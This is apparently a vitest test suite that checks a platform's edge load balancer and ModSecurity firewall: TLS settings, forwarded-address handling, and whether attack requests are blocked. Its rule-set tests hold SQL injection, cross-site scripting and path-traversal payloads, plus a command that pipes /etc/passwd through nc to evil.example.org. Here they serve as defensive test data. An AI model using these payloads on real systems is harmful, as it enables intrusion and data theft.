import { once } from "node:events";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { connect } from "node:tls";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { WebSocket } from "ws";
import { type Edge, edgeOf, whyNoFirewall } from "./harness/edge.ts";
import { http } from "./harness/http.ts";
import { copyPlatform, type Platform } from "./harness/platform.ts";
import { echoOf } from "./harness/shop.ts";
import { findProcesses, remains } from "./harness/traces.ts";
import { waitFor } from "./harness/wait.ts";

const USERS = "https://user.example.com/api/v1/users";
const VIDEOS = "https://video.example.com/api/v1/videos";
const CHAT = "https://chat.example.com/api/v1/chat";
/** Nobody else's on this machine's loopback: what the platform sees as the client. */
const CLIENT = "127.0.0.9";

const lacking = whyNoFirewall();
if (lacking !== undefined) process.stderr.write(`skipped: ${lacking}\n`);

describe.skipIf(lacking !== undefined)("S1-01: the load balancer and its firewall", () => {
  let platform: Platform;
  let edge: Edge;
  let alice: string;
  let bob: string;

  beforeAll(async () => {
    platform = await copyPlatform();
    await platform.start();
    edge = edgeOf(platform);
    [alice, bob] = await Promise.all([platform.token("alice"), platform.token("bob")]);
  });

  afterAll(async () => {
    await platform?.stop();
    platform?.remove();
  });

  describe("the way in", () => {
    test.each(["user.example.com", "user.localhost"])(
      "plain HTTP for %s is sent to HTTPS with its path, whatever the method",
      async (host) => {
        for (const method of ["GET", "POST"]) {
          const answer = await http(`http://${host}/api/v1/users?q=a`, { port: edge.httpPort, method });
          expect([answer.status, answer.headers["location"]]).toEqual([308, `https://${host}:${edge.port}/api/v1/users?q=a`]);
        }
      },
    );

    test("a stranger's name is not redirected to itself, and gets no handshake", async () => {
      expect(await http("http://evil.example.org/", { port: edge.httpPort })).toMatchObject({ status: 421 });
      await expect(edge.api("https://evil.example.org/")).rejects.toThrow("unrecognized name");
    });

    test("TLS is of our authority, from version 1.2 on, and for one name", async () => {
      const handshake = (version: "TLSv1.1" | "TLSv1.2" | "TLSv1.3") => {
        const to = { host: "127.0.0.1", port: edge.port, servername: "user.example.com", ca: edge.ca };
        const socket = connect({ ...to, minVersion: version, maxVersion: version, ciphers: "DEFAULT@SECLEVEL=0" });
        return once(socket, "secureConnect").then(() => (socket.destroy(), version));
      };
      expect(await Promise.all([handshake("TLSv1.2"), handshake("TLSv1.3")])).toEqual(["TLSv1.2", "TLSv1.3"]);
      await expect(handshake("TLSv1.1")).rejects.toThrow(/alert protocol version|no protocols available|unsupported protocol/);
      expect(await edge.api(`${USERS}/me`, { token: alice, headers: { host: "video.example.com" } })).toMatchObject({ status: 421 });
    });

    test("browsers are told to stay with HTTPS, but not for a developer's own machine", async () => {
      const pinned = async (host: string) => (await edge.api(`https://${host}/api/v1/users/me`)).headers["strict-transport-security"];
      expect([await pinned("user.example.com"), await pinned("user.localhost")]).toEqual(["max-age=31536000", undefined]);
    });

    test("a token is still the gateway's to ask for", async () => {
      expect(await edge.api(`${USERS}/me`)).toMatchObject({ status: 403, body: "RBAC: access denied" });
    });
  });

  describe("who the client is", () => {
    const seenBy = async (headers: Readonly<Record<string, string | readonly string[]>>) => {
      const answer = await edge.api(`${USERS}/prober/headers`.replace("user.", "video."), { token: alice, from: CLIENT, headers });
      expect(answer.status, answer.body).toBe(200);
      return echoOf(answer.body).headers;
    };

    test.each([
      { title: "nothing claimed", claimed: {} },
      { title: "another address claimed", claimed: { "x-forwarded-for": "203.0.113.7" } },
      { title: "several claimed", claimed: { "x-forwarded-for": ["203.0.113.7, 10.0.0.1", "10.244.0.1"] } },
      { title: "the gateway's own header claimed", claimed: { "x-envoy-external-address": "203.0.113.7", "x-real-ip": "203.0.113.7" } },
      { title: "another standard's header", claimed: { forwarded: "for=203.0.113.7;proto=http;host=evil.example.org" } },
    ])("$title: the application gets the connection's address", async ({ claimed }) => {
      const headers = await seenBy({ ...claimed, "x-forwarded-proto": "http", "x-forwarded-host": "evil.example.org" });
      expect(headers["x-envoy-external-address"]).toBe(CLIENT);
      // From the right: the load balancer, whom the gateway saw, and the client, whom the load balancer saw.
      expect(headers["x-forwarded-for"]?.split(",").at(-2)?.trim()).toBe(CLIENT);
      expect(headers["x-forwarded-proto"]).toBe("https");
      for (const name of ["x-real-ip", "forwarded", "x-forwarded-host"]) expect(headers).not.toHaveProperty(name);
    });

    test("a policy on the client's address reads the connection's, and no claim", async () => {
      const policy = (address: string) => `---
apiVersion: security.istio.io/v1
kind: AuthorizationPolicy
metadata: { name: not-from-there, namespace: istio-ingress }
spec:
  selector: { matchLabels: { istio: platform-gateway } }
  action: DENY
  rules: [{ from: [{ source: { remoteIpBlocks: ["${address}"] } }] }]
`;
      const file = "infra/k8s/istio/authorization.yaml";
      const me = (headers = {}) => edge.api(`${USERS}/me`, { token: alice, from: CLIENT, headers });
      await edge.api(USERS, { token: alice, json: { displayName: "Alice" } });
      let before = "";
      platform.mesh().edit(file, (text) => (before = text) + policy(CLIENT));
      await waitFor("the client is refused", async () => (await me()).status === 403);
      expect(await me({ "x-forwarded-for": "203.0.113.7" })).toMatchObject({ status: 403 });
      platform.mesh().edit(file, () => before + policy("203.0.113.7"));
      await waitFor("the client may come again", async () => (await me()).status === 200);
      expect(await me({ "x-forwarded-for": "203.0.113.7" })).toMatchObject({ status: 200 });
      platform.mesh().edit(file, () => before);
    });
  });

  describe("the rule set", () => {
    const refused = { status: 403, headers: expect.objectContaining({ server: "nginx" }) as unknown };
    const json = (name: string) => ({ token: alice, json: { displayName: name } });

    test.each([
      { title: "SQL injection in the query", url: `${USERS}?q=${encodeURIComponent("1' OR '1'='1")}` },
      { title: "SQL injection by union", url: `${USERS}?q=${encodeURIComponent("x' UNION SELECT password FROM pg_shadow--")}` },
      { title: "SQL injection in the body", url: USERS, call: json("'; DROP TABLE users; --") },
      { title: "a script in the query", url: `${USERS}?q=${encodeURIComponent("<script>alert(1)</script>")}` },
      { title: "a script in the body", url: USERS, call: json('<img src=x onerror="alert(document.cookie)">') },
      { title: "a script in a header", url: USERS, call: { headers: { "user-agent": "<script>alert(1)</script>" } } },
      { title: "a path out of the folder", url: `${USERS}?q=${encodeURIComponent("../../../../etc/passwd")}` },
      { title: "a shell's command", url: `${USERS}?q=${encodeURIComponent("; cat /etc/passwd | nc evil.example.org 80")}` },
      { title: "a scanner", url: USERS, call: { headers: { "user-agent": "sqlmap/1.7" } } },
      { title: "a method that the API has not", url: USERS, call: { method: "DELETE" } },
      {
        title: "a content type that the API has not",
        url: USERS,
        call: { method: "POST", body: "<a/>", headers: { "content-type": "text/xml" } },
      },
    ])("$title: 403 from the firewall, and the gateway sees nothing", async ({ url, call = {} }) => {
      const answer = await edge.api(url, { token: alice, ...call });
      expect(answer).toMatchObject(refused);
      expect(answer.body).toContain("<center>nginx</center>");
      expect(answer.headers).not.toHaveProperty("x-envoy-upstream-service-time");
    });

    test("an attack in the place of a film's bytes passes, for a film is no text; in any other body it does not", async () => {
      const answer = await edge.api(`${VIDEOS}/content`, { ...json("' OR 1=1 --"), method: "PUT" });
      expect(answer).toMatchObject(refused);
    });

    test("no JSON: 400 from the firewall", async () => {
      const headers = { "content-type": "application/json" };
      expect(await edge.api(USERS, { token: alice, method: "POST", headers, body: '{"displayName":' })).toMatchObject({ status: 400 });
    });

    test("no body over 17 MB is read", async () => {
      const headers = { "content-type": "video/mp4", "content-length": String(18 * 1024 ** 2) };
      expect(await edge.api(`${VIDEOS}/x/content`, { token: alice, method: "PUT", headers, body: "a" })).toMatchObject({ status: 413 });
    });

    test("what was refused is logged by its rule; no token is", async () => {
      const log = platform.mesh().logs();
      expect(log).toContain("ModSecurity: Access denied with code 403");
      for (const token of [alice, bob]) expect(log).not.toContain(token.split(".")[2]);
    });
  });

  describe("the platform's own requests pass", () => {
    const movie = `\0\0\0\u0018ftypisom${"' OR 1=1 -- <script>".repeat(600_000)}`;

    test("sign-up and search, with names as people have them", async () => {
      for (const [user, name] of Object.entries({ erin: "Erin O'Brien-Łęcka", goro: "土井 五郎 <3", hana: "Hana & Söhne (50%)" })) {
        const token = await platform.register(user, user);
        const answer = await edge.api(USERS, { token, json: { displayName: name } });
        expect([answer.status, JSON.parse(answer.body)]).toEqual([201, expect.objectContaining({ displayName: name })]);
        const found = await edge.api(`${USERS}?q=${encodeURIComponent(name)}`, { token });
        expect([found.status, found.body]).toEqual([200, expect.stringContaining(JSON.stringify(name))]);
        const changed = await edge.api(`${USERS}/me`, { token, json: { displayName: `${name}.` }, method: "PATCH" });
        expect(changed.status, changed.body).toBe(200);
      }
    });

    test("a film of 12 MB is uploaded, published, and read in parts", async () => {
      const created = await edge.api(VIDEOS, { token: alice, json: { title: "釘のない格子", description: "Select a board; drop it in." } });
      expect(created.status, created.body).toBe(201);
      const { id } = JSON.parse(created.body) as { id: string };
      const headers = { "content-type": "video/mp4" };
      const uploaded = await edge.api(`${VIDEOS}/${id}/content`, { token: alice, method: "PUT", headers, body: movie });
      expect(uploaded.status, uploaded.body).toBe(200);
      expect(JSON.parse(uploaded.body)).toHaveProperty("content.sizeBytes", movie.length);
      const published = await edge.api(`${USERS}/moderation/videos/${id}/publish`, { token: bob, method: "POST" });
      expect(published.status, published.body).toBe(200);
      const part = await edge.api(`${VIDEOS}/${id}/content`, { token: bob, headers: { range: "bytes=4-11" } });
      expect(part).toMatchObject({ status: 206, body: "ftypisom" });
    });

    test("two talk over WebSockets", async () => {
      const room = await edge.api(`${CHAT}/rooms`, { token: alice, json: { name: "Joinery" } });
      expect(room.status, room.body).toBe(201);
      const { id: roomId } = JSON.parse(room.body) as { id: string };
      expect(await edge.api(`${CHAT}/rooms/${roomId}/join`, { token: bob, method: "POST" })).toMatchObject({ status: 200 });
      const [one, other] = await Promise.all([openSocket(edge, alice), openSocket(edge, bob)]);
      try {
        for (const socket of [one, other]) socket.say({ type: "subscribe", roomId });
        await Promise.all([one, other].map((socket) => socket.hear("subscribed")));
        const text = "SELECT * FROM joints; -- <script>alert('a frame is not a request')</script>";
        one.say({ type: "post", roomId, text, clientId: crypto.randomUUID() });
        expect(await other.hear("message")).toMatchObject({ message: { author: "alice", text } });
      } finally {
        for (const socket of [one, other]) socket.close();
      }
    });
  });

  test("it ends with the mesh, and leaves nothing running", async () => {
    const { pid, dir } = platform.mesh();
    expect(findProcesses(pid, "nginx")).not.toEqual([]);
    const footprint = platform.mesh().footprint();
    await platform.stop();
    // Namespaces are numbered anew: another mesh may have got one of those numbers by now.
    expect(await remains({ ...footprint, namespaces: new Set(), ports: [...footprint.ports, edge.port, edge.httpPort] })).toEqual([]);
    expect(readdirSync(join(dir, ".kumiko/platform/edge")).toSorted()).toEqual(["nginx.conf", "rules.conf", "tmp"]);
  });
});

interface ChatSocket {
  say(frame: object): void;
  /** The next frame of that type, also one that has come already. */
  hear(type: string): Promise<unknown>;
  close(): void;
}

/** As a page opens it: the token is the second subprotocol. */
async function openSocket(edge: Edge, token: string): Promise<ChatSocket> {
  const socket = new WebSocket(`wss://chat.example.com:${edge.port}/api/v1/chat/socket`, ["chat.v1", `bearer.${token}`], {
    ca: edge.ca,
    lookup: (_host, _options, found) => found(null, [{ address: "127.0.0.1", family: 4 }]),
  });
  const frames: { type: string }[] = [];
  socket.on("message", (data: Buffer) => frames.push(JSON.parse(data.toString()) as { type: string }));
  await once(socket, "open");
  return {
    say: (frame) => socket.send(JSON.stringify(frame)),
    hear: (type) =>
      waitFor(`a frame of type ${type}`, () => frames.splice(0).find((frame) => frame.type === type), {
        explain: () => JSON.stringify(frames),
      }),
    close: () => socket.terminate(),
  };
}
